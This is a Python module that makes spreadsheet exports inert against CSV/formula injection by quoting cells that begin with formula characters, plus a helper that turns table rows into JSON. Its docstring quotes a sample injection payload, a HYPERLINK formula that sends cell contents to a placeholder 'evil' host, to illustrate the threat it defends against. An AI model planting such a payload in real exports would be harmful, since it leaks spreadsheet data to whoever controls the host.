"""Tables written for spreadsheets: text that a spreadsheet would run as a formula is
made inert before any CSV or XLSX file leaves dualcontrol.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and WPS as a formula (or the start of one), so a user name
such as ``=HYPERLINK("http://evil/?"&A1,"x")`` in the audit log would become a live
link that leaks the sheet. Such text is prefixed with a single quote, which the
spreadsheet shows as text. Numbers, and text that is a plain number such as ``-3.5``,
are left alone: they can never be a formula.

References
----------
OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection).
"""

from __future__ import annotations

import logging
import math
import re
from typing import Any

import pandas as pd

logger = logging.getLogger(__name__)

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_cell(value: Any) -> Any:
    """Return ``value`` with a leading ``'`` if it is text a spreadsheet would run.

    Anything that is not a string (numbers, dates, missing values) is returned as is.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of ``frame`` safe to open in a spreadsheet.

    Every text cell, and every column name, that begins with a formula character is
    prefixed with ``'``; numeric columns are not touched.
    """
    safe = frame.copy()
    safe.columns = [neutralise_cell(c) for c in safe.columns]
    for column in range(safe.shape[1]):
        series = safe.iloc[:, column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        if pd.api.types.is_datetime64_any_dtype(series):
            continue
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        safe.isetitem(column, series.map(neutralise_cell))
    return safe


def _jsonable(value: Any) -> Any:
    if value is pd.NA or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
        return None
    if hasattr(value, "item"):
        return _jsonable(value.item())
    if isinstance(value, pd.Timestamp):
        return value.isoformat()
    return value


def frame_records(frame: pd.DataFrame) -> list[dict[str, Any]]:
    """Return the rows of ``frame`` as JSON-ready dicts (NaN and NA become null).

    What every interface that hands a table to a machine (the CLI's ``--json``, the
    API, the bulletin's JSON) uses, so they all write the same values.
    """
    return [{k: _jsonable(v) for k, v in row.items()} for row in frame.to_dict("records")]
